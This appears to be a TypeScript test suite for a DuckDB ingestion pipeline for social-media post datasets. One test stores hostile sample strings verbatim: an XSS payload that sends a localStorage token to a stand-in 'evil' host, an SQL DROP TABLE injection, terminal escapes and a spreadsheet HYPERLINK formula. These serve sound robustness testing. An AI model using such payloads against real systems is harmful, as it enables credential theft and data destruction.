import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createWriteStream, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { ingestFile } from './ingest.js';
import { DuckDBStore } from '../store/duckdb/DuckDBStore.js';
import { READERS } from '../readers/index.js';
import type { Store } from '../store/store.js';

const here = dirname(fileURLToPath(import.meta.url));
// Under tsx the sources are .ts; from dist they are .js. The SIGKILL child follows suit.
const ext = import.meta.url.endsWith('.ts') ? '.ts' : '.js';
const repo = resolve(here, ext === '.ts' ? '../..' : '../../..');
const DATA = process.env.VIGIE_REFERENCE_DATA ?? resolve(repo, '../shared/data');

let dir = '';
let n = 0;
before(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigie-ingest-'));
});
after(() => rmSync(dir, { recursive: true, force: true }));

async function withStore<T>(
  f: (s: Store, path: string) => Promise<T>,
  path = join(dir, `w${n++}.duckdb`),
): Promise<T> {
  const s = await DuckDBStore.open(path);
  try {
    return await f(s, path);
  } finally {
    await s.close();
  }
}

async function postTexts(s: Store): Promise<Map<string, string | null>> {
  const out = new Map<string, string | null>();
  for await (const c of s.streamPostTexts()) c.postIds.forEach((id, i) => out.set(id, c.texts[i]));
  return out;
}

describe('ingest', () => {
  test('the same file twice adds nothing the second time (already-ingested)', async () => {
    const p = join(dir, 'twice.csv');
    writeFileSync(p, 'post_id,account_id,timestamp\n1,a,1600000000\n2,b,1600000001\n3,a,1600000002\n');
    await withStore(async (s) => {
      const first = await ingestFile(s, p);
      assert.equal(first.status, 'ingested');
      assert.equal(first.accepted, 3);
      const before = await s.counts();
      const second = await ingestFile(s, p);
      assert.equal(second.status, 'already-ingested');
      assert.equal(second.accepted, 0);
      assert.equal(second.sourceId, first.sourceId);
      assert.deepEqual(await s.counts(), before);
      assert.equal(before.posts, 3);
      assert.equal(before.accounts, 2);
      assert.equal(before.sources, 1);
    });
  });

  test('a repeated post id naming another reposted post is rejected with the reason, not merged away', async () => {
    const f = join(dir, 'conflict.csv');
    writeFileSync(
      f,
      'object_id,account_id,content_id,timestamp_share\n' +
        'o1,a,r1,1600000000\n' +
        'o1,b,r2,1600000005\n' +
        'o2,a,r1,1600000000\n' + // same retweet id, another object: a conflict
        'o1,b,r2,1600000005\n', // an exact copy: a duplicate
    );
    await withStore(async (s) => {
      const r = await ingestFile(s, f);
      assert.equal(r.records, 4);
      assert.equal(r.accepted, 2);
      assert.equal(r.duplicates, 1);
      assert.equal(r.rejected, 1);
      const rej = await s.listRejects();
      assert.equal(rej.length, 1);
      assert.equal(rej[0].recordNo, 2);
      assert.match(rej[0].reason, /post id r1 was already read at record 0 with a different referenced post/);
      assert.match(rej[0].excerpt, /ref_post_id=o2/);
      const src = (await s.listSources())[0];
      assert.equal(src.rejected, 1);
      assert.equal(src.accepted - src.duplicates, 2);
    });
  });

  test('the same posts in another file are dropped as duplicates (the earlier copy stays)', async () => {
    const a = join(dir, 'a.csv');
    const b = join(dir, 'b.csv');
    writeFileSync(a, 'post_id,account_id,timestamp,text\n1,a,1600000000,first\n2,b,1600000001,x\n');
    writeFileSync(b, 'post_id,account_id,timestamp,text\n2,b,1600000001,second copy\n3,c,1600000002,y\n');
    await withStore(async (s) => {
      await ingestFile(s, a);
      const r = await ingestFile(s, b);
      assert.equal(r.duplicates, 1);
      assert.equal(r.accepted, 1);
      const texts = await postTexts(s);
      assert.equal(texts.size, 3);
      assert.equal(texts.get('2'), 'x');
    });
  });

  test('an unknown format is ERR_UNKNOWN_FORMAT listing the supported formats', async () => {
    const p = join(dir, 'mystery.bin');
    writeFileSync(p, 'just some words\nthat are no known format\n');
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.status, 'failed');
      assert.equal(r.errorCode, 'ERR_UNKNOWN_FORMAT');
      for (const reader of READERS)
        assert.ok(r.error!.includes(reader.format), `error lists ${reader.format}`);
      const forced = await ingestFile(s, p, { format: 'no-such-format' });
      assert.equal(forced.errorCode, 'ERR_UNKNOWN_FORMAT');
      for (const reader of READERS) assert.ok(forced.error!.includes(reader.format));
      assert.equal((await s.counts()).sources, 0);
    });
  });

  test('an empty file is reported as empty and leaves no source', async () => {
    const p = join(dir, 'empty.csv');
    writeFileSync(p, '');
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.status, 'empty');
      assert.equal((await s.counts()).sources, 0);
    });
  });

  test('text with HTML, JavaScript and control characters is stored verbatim', async () => {
    const texts = [
      '<script>alert(document.cookie)</script>',
      '<img src=x onerror="fetch(`//evil/${localStorage.token}`)">',
      "'; DROP TABLE posts; --",
      'ctrl \u0000 \u0001 \u0007 \u001b[2J \u007f \u202e end',
      '=HYPERLINK("http://evil","click") +1 -1 @SUM(A1)',
      'emoji 🇫🇷 and combining é and lone surrogate-free',
    ];
    const csv =
      'post_id,account_id,timestamp,text,lang\n' +
      texts.map((t, i) => `${i},a,${1600000000 + i},"${t.replace(/"/g, '""')}",fr`).join('\n') +
      '\n';
    const p = join(dir, 'hostile.csv');
    writeFileSync(p, csv);
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.accepted, texts.length);
      assert.equal(r.rejected, 0);
      const got = await postTexts(s);
      texts.forEach((t, i) => assert.equal(got.get(String(i)), t));
    });
  });

  test('rejects are stored with line, offset and reason, and counted', async () => {
    const p = join(dir, 'rejects.csv');
    writeFileSync(p, 'post_id,account_id,timestamp\n1,a,1600000000\n2,b\n,c,1600000000\n4,d,1600000003\n');
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.accepted, 2);
      assert.equal(r.rejected, 2);
      const rej = await s.listRejects(r.sourceId!);
      assert.deepEqual(
        rej.map((x) => [x.line, x.offset, x.reason]),
        [
          [3, 44, 'expected 3 columns, found 2'],
          [4, 48, 'empty post id'],
        ],
      );
    });
  });

  test('an ingest killed with SIGKILL leaves the workspace consistent; a re-run completes it', async () => {
    const rows = 60_000;
    const p = join(dir, 'big.csv');
    const out = createWriteStream(p);
    out.write('post_id,account_id,timestamp,text,url\n');
    for (let i = 0; i < rows; i++) {
      // Every 997th row lacks its post id: rejects must be counted consistently too.
      const id = i % 997 === 500 ? '' : `p${i}`;
      if (
        !out.write(
          `${id},u${i % 3001},${1600000000 + i},"post number ${i}, with text",https://example.org/${i % 50}\n`,
        )
      )
        await once(out, 'drain');
    }
    out.end();
    await once(out, 'finish');
    const expectedRejects = Math.floor((rows - 500 - 1) / 997) + 1;
    const db = join(dir, 'killed.duckdb');
    const child = join(dir, 'child.mjs');
    const url = (f: string) => new URL(`${f}${ext}`, import.meta.url).href;
    writeFileSync(
      child,
      `import { ingestFile } from ${JSON.stringify(url('./ingest'))};
import { DuckDBStore } from ${JSON.stringify(url('../store/duckdb/DuckDBStore'))};
const s = await DuckDBStore.open(${JSON.stringify(db)});
const write = s.writeBatch.bind(s);
s.writeBatch = async (b) => { await write(b); process.stdout.write('committed ' + b.recordsDone + '\\n'); };
await ingestFile(s, ${JSON.stringify(p)}, { batchRecords: 2000 });
process.stdout.write('finished\\n');
`,
    );
    const args = ext === '.ts' ? ['--import', 'tsx', child] : [child];
    const proc = spawn(process.execPath, args, { cwd: repo, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    proc.stderr.on('data', (d) => (stderr += d));
    const killedAt = await new Promise<number>((res, rej) => {
      proc.stdout.on('data', (d) => {
        stdout += d;
        const commits = stdout.split('\n').filter((l) => l.startsWith('committed')).length;
        // Kill in the middle of a later batch (its rows are being appended right now).
        if (commits >= 4 && proc.exitCode === null && !proc.killed) {
          setTimeout(() => proc.kill('SIGKILL'), 15);
          res(commits);
        }
      });
      proc.on('exit', (code) =>
        rej(new Error(`child exited (${code}) before it could be killed:\n${stdout}\n${stderr}`)),
      );
    });
    await once(proc, 'exit');
    assert.equal(proc.signalCode, 'SIGKILL');
    assert.ok(!stdout.includes('finished'), 'the child was killed before it finished');
    assert.ok(killedAt >= 4);

    await withStore(async (s) => {
      const [src] = await s.listSources();
      assert.equal(src.status, 'running');
      assert.ok(src.recordsDone > 0 && src.recordsDone < rows, `records done: ${src.recordsDone}`);
      assert.equal(src.recordsDone % 2000, 0); // whole batches only
      const c = await s.counts();
      // Exactly the committed batches: every record before records_done, none after.
      assert.equal(c.posts + c.rejects, src.recordsDone);
      assert.equal(c.posts, src.accepted);
      assert.equal(c.rejects, src.rejected);
      const ids = [...(await postTexts(s)).keys()];
      assert.equal(new Set(ids).size, ids.length);

      const r = await ingestFile(s, p, { batchRecords: 2000 });
      assert.equal(r.status, 'resumed');
      const [done] = await s.listSources();
      assert.equal(done.status, 'done');
      assert.equal(done.recordsDone, rows);
      const after = await s.counts();
      assert.equal(after.posts, rows - expectedRejects);
      assert.equal(after.rejects, expectedRejects);
      assert.equal(after.accounts, 3001);
      const all = [...(await postTexts(s)).keys()];
      assert.equal(new Set(all).size, rows - expectedRejects);
      // A third run adds nothing.
      assert.equal((await ingestFile(s, p)).status, 'already-ingested');
    }, db);
  });
});

describe('conformance on the CooRTweet data (../shared/data/social/coortweet)', () => {
  const coortweet = join(DATA, 'social', 'coortweet');

  test('russian_coord_tweets.csv: 35,125 records', async (t) => {
    const p = join(coortweet, 'russian_coord_tweets.csv');
    if (!existsSync(p)) {
      t.skip(`reference data not found at ${p}`);
      return;
    }
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.status, 'ingested');
      assert.equal(r.format, 'generic-csv');
      assert.equal(r.records, 35_125);
      // 40 content ids (retweets) are listed twice, by the same account at the same second,
      // with two different retweeted objects in 39 of them. A post reposts one post: the
      // first row is kept; the 39 second rows that name another object are rejected with
      // the reason (nothing dropped silently), the one exact copy is a duplicate.
      assert.equal(r.rejected, 39);
      assert.equal(r.duplicates, 1);
      assert.equal(r.accepted, 35_085);
      const rej = await s.listRejects(undefined, 100);
      assert.equal(rej.length, 39);
      assert.match(rej[0].reason, /already read at record \d+ with a different referenced post/);
      const c = await s.counts();
      assert.equal(c.posts, 35_085);
      assert.equal(c.accounts, 9_509);
    });
  });

  test('german_elections.csv.gz: 218,971 records, 3 rejects, merged to unique post ids', async (t) => {
    const p = join(coortweet, 'german_elections.csv.gz');
    if (!existsSync(p)) {
      t.skip(`reference data not found at ${p}`);
      return;
    }
    await withStore(async (s) => {
      const r = await ingestFile(s, p);
      assert.equal(r.status, 'ingested');
      assert.equal(r.records, 218_971);
      assert.equal(r.rejected, 3);
      const rej = await s.listRejects(r.sourceId!);
      assert.deepEqual(
        rej.map((x) => x.reason),
        ['empty post id', 'empty post id', 'empty post id'],
      );
      // One row per (post, object): 24,645 rows repeat a post and are merged into it.
      assert.equal(r.accepted, 194_323);
      assert.equal(r.duplicates, 218_971 - 3 - 194_323);
      const c = await s.counts();
      assert.equal(c.posts, 194_323);
      const ids = [...(await postTexts(s)).keys()];
      assert.equal(new Set(ids).size, 194_323);
    });
  });
});
